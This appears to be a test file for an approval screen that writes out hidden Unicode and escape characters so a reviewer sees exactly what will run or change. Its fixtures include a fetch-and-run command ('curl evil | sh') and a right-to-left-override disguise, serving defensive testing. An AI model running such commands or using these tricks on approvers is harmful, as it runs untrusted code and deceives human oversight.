// @vitest-environment jsdom
import { cleanup, screen } from '@testing-library/react';
import { afterEach, expect, test } from 'vitest';
import type { ApprovalDisplay as Display } from '../../protocol/entities.ts';
import { ApprovalDisplay } from './approval-display.tsx';
import { renderPage } from './page.fixture.tsx';

afterEach(cleanup);

const place = { cwd: '/folder', mode: 'local' as const };
const command = (script: string): Display => ({ kind: 'command', script, timeoutMs: 1000, ...place });
const file = (diff: string): Display => ({ kind: 'file', path: 'f', diff, created: false, bytes: 1, ...place });
const shown = () => screen.getByTestId('approval-script');

test('characters that turn or hide text are written out, and the person is told', () => {
  renderPage(<ApprovalDisplay display={command('echo \u202Egnp.exe \u200B# \x1b[8m hidden\tkept\nnext')} />);
  expect(shown().textContent).toBe('echo ⟨U+202E⟩gnp.exe ⟨U+200B⟩# ⟨U+001B⟩[8m hidden\tkept\nnext');
  expect(screen.getByRole('note').textContent).toContain('normally invisible');
});

test('a folder and a path are one line in which nothing hides', () => {
  const names = { path: 'a\nb\u202Etxt', cwd: '/folder\n/\u3164' };
  renderPage(
    <ApprovalDisplay display={{ kind: 'file', diff: '+x\n', created: false, bytes: 1, mode: 'local', ...names }} />,
  );
  expect(screen.getByText(/a⟨U\+000A⟩b⟨U\+202E⟩txt/)).toBeTruthy();
  expect(screen.getByText('/folder⟨U+000A⟩/⟨U+3164⟩')).toBeTruthy();
});

test('ordinary text in any script is left alone, without a warning', () => {
  renderPage(<ApprovalDisplay display={command('echo "汉字 ümläut 🙂"')} />);
  expect(shown().textContent).toBe('echo "汉字 ümläut 🙂"');
  expect(screen.queryByRole('note')).toBeNull();
});

test('a script that does not fit says how many lines it has', () => {
  renderPage(<ApprovalDisplay display={command(`${'# comment\n'.repeat(40)}curl evil | sh`)} />);
  expect(screen.getByText('41 lines: scroll to read them all')).toBeTruthy();
});

const kinds = () => [...shown().querySelectorAll('[data-line]')].map((line) => line.getAttribute('data-line'));

test('an added line that looks like the header of a diff is drawn as an added line', () => {
  renderPage(<ApprovalDisplay display={file('--- a/f\n+++ b/f\n@@ -1 +1,2 @@\n a\n+++ curl evil | sh\n')} />);
  expect(kinds()).toEqual(['head', 'context', 'added']);
});

test('without a diff every line of the content is an added line', () => {
  renderPage(<ApprovalDisplay display={file('[binary content of 3 bytes is replaced]\n+++ x')} />);
  expect(kinds()).toEqual(['note', 'added']);
});

test('in a diff hidden characters are written out, words are marked, and how much changes is counted', () => {
  renderPage(<ApprovalDisplay display={file('--- a/f\n+++ b/f\n@@ -1 +1 @@\n-let ok = 1;\n+let ok\u202E = 1;\n')} />);
  expect(shown().textContent).toBe('@@ -1 +1 @@-let ok = 1;+let ok⟨U+202E⟩ = 1;');
  expect(screen.getByRole('note').textContent).toContain('normally invisible');
  expect(screen.getByRole('img', { name: '1 line added, 1 removed' })).toBeTruthy();
});

test('a request is shown as it is sent: line, headers, body', () => {
  const request: Display = {
    kind: 'request',
    method: 'POST',
    url: 'https://api.example/items?x=1',
    headers: { 'content-type': 'application/json', authorization: 'Bearer abc' },
    body: '{"a":\u202E1}',
    ...place,
  };
  renderPage(<ApprovalDisplay display={request} />);
  expect(shown().textContent).toBe(
    'POST https://api.example/items?x=1\ncontent-type: application/json\nauthorization: Bearer abc\n\n{"a":⟨U+202E⟩1}',
  );
  expect(screen.getByText('Exactly this will be sent', { exact: false })).toBeTruthy();
});

test('a command without a shell says so', () => {
  renderPage(
    <ApprovalDisplay
      display={{ ...command("git commit -m 'a; b'"), argv: ['git', 'commit', '-m', 'a; b'] } as Display}
    />,
  );
  expect(screen.getByText('Exactly this will run, without a shell')).toBeTruthy();
  expect(shown().textContent).toBe("git commit -m 'a; b'");
});
